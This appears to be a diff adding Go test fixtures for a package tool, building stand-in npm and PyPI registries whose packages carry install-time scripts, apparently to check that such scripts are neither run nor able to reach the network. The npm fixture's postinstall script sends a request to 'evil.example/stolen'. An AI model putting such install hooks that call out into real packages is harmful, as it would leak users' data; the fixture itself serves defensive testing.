@@ -1,0 +1,138 @@
+package packages
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"crypto/sha256"
+	"crypto/sha512"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/bobbinhq/bobbin/repo/packages/packagestest"
+)
+
+const registryHost = packagestest.Host
+
+// registry is the network with an npm registry and a Python index besides.
+type registry struct{ *packagestest.Registry }
+
+func newRegistry(t *testing.T) registry {
+	t.Helper()
+	r := registry{packagestest.New(t)}
+	r.addNode(t)
+	r.addPython(t)
+	return r
+}
+
+// goFiles are a module that needs another, and a file that is no manifest.
+func goFiles() files {
+	tree := files(packagestest.Files())
+	tree["run.sh"] = "echo what is no manifest is not seen\n"
+	return tree
+}
+
+// nodePackage is left-shop, whose script after the installation would go elsewhere.
+func nodePackage(t *testing.T) (archive []byte, integrity string) {
+	t.Helper()
+	var out bytes.Buffer
+	z := gzip.NewWriter(&out)
+	w := tar.NewWriter(z)
+	for _, f := range [][2]string{
+		{"package/package.json", `{"name":"left-shop","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node post.js"}}`},
+		{"package/index.js", "module.exports = 'hello';\n"},
+		{"package/post.js", "require('fs').writeFileSync(process.env.PACKAGES + '/go/ran', 'x');\nconst r = require('http').request({host: '127.0.0.1', port: new URL(process.env.HTTP_PROXY).port, path: 'http://evil.example/stolen'}, () => process.exit(0));\nr.on('error', () => process.exit(0));\nr.end();\n"},
+	} {
+		require.NoError(t, w.WriteHeader(&tar.Header{Name: f[0], Mode: 0o644, Size: int64(len(f[1]))}))
+		_, _ = w.Write([]byte(f[1]))
+	}
+	require.NoError(t, errors.Join(w.Close(), z.Close()))
+	h := sha512.Sum512(out.Bytes())
+	return out.Bytes(), "sha512-" + base64.StdEncoding.EncodeToString(h[:])
+}
+
+func (r registry) addNode(t *testing.T) {
+	t.Helper()
+	archive, integrity := nodePackage(t)
+	address := "http://" + registryHost + "/npm/left-shop/-/left-shop-1.0.0.tgz"
+	r.Give("/npm/left-shop/-/left-shop-1.0.0.tgz", archive)
+	about, err := json.Marshal(map[string]any{
+		"name": "left-shop", "dist-tags": map[string]string{"latest": "1.0.0"},
+		"versions": map[string]any{"1.0.0": map[string]any{"name": "left-shop", "version": "1.0.0", "dist": map[string]string{"tarball": address, "integrity": integrity}}},
+	})
+	require.NoError(t, err)
+	r.Give("/npm/left-shop", about)
+}
+
+func nodeFiles(t *testing.T, dir string) files {
+	t.Helper()
+	_, integrity := nodePackage(t)
+	lock := map[string]any{
+		"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
+		"packages": map[string]any{
+			"": map[string]any{"name": "shop", "version": "1.0.0", "dependencies": map[string]string{"left-shop": "1.0.0"}},
+			"node_modules/left-shop": map[string]any{
+				"version": "1.0.0", "resolved": "http://" + registryHost + "/npm/left-shop/-/left-shop-1.0.0.tgz", "integrity": integrity, "hasInstallScript": true,
+			},
+		},
+	}
+	text, err := json.Marshal(lock)
+	require.NoError(t, err)
+	return files{
+		dir + "package.json":      `{"name":"shop","version":"1.0.0","dependencies":{"left-shop":"1.0.0"},"scripts":{"test":"node --test","preinstall":"touch /packages/go/ran"}}`,
+		dir + "package-lock.json": string(text),
+		dir + "index.js":          "console.log(require('left-shop'));\n",
+	}
+}
+
+// addPython offers left_shop 1.0.0 as a wheel, and old_shop as a source that would have to
+// be run to be installed.
+func (r registry) addPython(t *testing.T) {
+	t.Helper()
+	var wheel bytes.Buffer
+	z := zip.NewWriter(&wheel)
+	var record strings.Builder
+	for _, f := range [][2]string{
+		{"left_shop/__init__.py", "HELLO = 'hello'\n"},
+		{"left_shop-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: left-shop\nVersion: 1.0.0\n"},
+		{"left_shop-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
+	} {
+		w, err := z.Create(f[0])
+		require.NoError(t, err)
+		_, _ = w.Write([]byte(f[1]))
+		h := sha256.Sum256([]byte(f[1]))
+		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f[0], base64.RawURLEncoding.EncodeToString(h[:]), len(f[1]))
+	}
+	w, err := z.Create("left_shop-1.0.0.dist-info/RECORD")
+	require.NoError(t, err)
+	_, _ = w.Write([]byte(record.String() + "left_shop-1.0.0.dist-info/RECORD,,\n"))
+	require.NoError(t, z.Close())
+	h := sha256.Sum256(wheel.Bytes())
+	r.Give("/pypi/left_shop-1.0.0-py3-none-any.whl", wheel.Bytes())
+	page := func(link string) []byte { return []byte("<!DOCTYPE html><html><body>" + link + "</body></html>") }
+	r.Give("/pypi/left-shop/", page(`<a href="../left_shop-1.0.0-py3-none-any.whl#sha256=`+hex.EncodeToString(h[:])+`">left_shop-1.0.0-py3-none-any.whl</a>`))
+
+	var source bytes.Buffer
+	gz := gzip.NewWriter(&source)
+	tw := tar.NewWriter(gz)
+	text := "import os, pathlib\npathlib.Path(os.environ['PACKAGES'] + '/go/ran').write_text('x')\nfrom setuptools import setup\nsetup(name='old-shop', version='1.0.0')\n"
+	require.NoError(t, tw.WriteHeader(&tar.Header{Name: "old_shop-1.0.0/setup.py", Mode: 0o644, Size: int64(len(text))}))
+	_, _ = tw.Write([]byte(text))
+	require.NoError(t, errors.Join(tw.Close(), gz.Close()))
+	r.Give("/pypi/old_shop-1.0.0.tar.gz", source.Bytes())
+	r.Give("/pypi/old-shop/", page(`<a href="../old_shop-1.0.0.tar.gz">old_shop-1.0.0.tar.gz</a>`))
+}
+
+// mirrors are how an operator names the stand-ins.
+func mirrors() []string {
+	return append(packagestest.Mirrors(), "npm_config_registry=http://"+registryHost+"/npm/",
+		"PIP_INDEX_URL=http://"+registryHost+"/pypi/", "PIP_TRUSTED_HOST="+registryHost)
+}
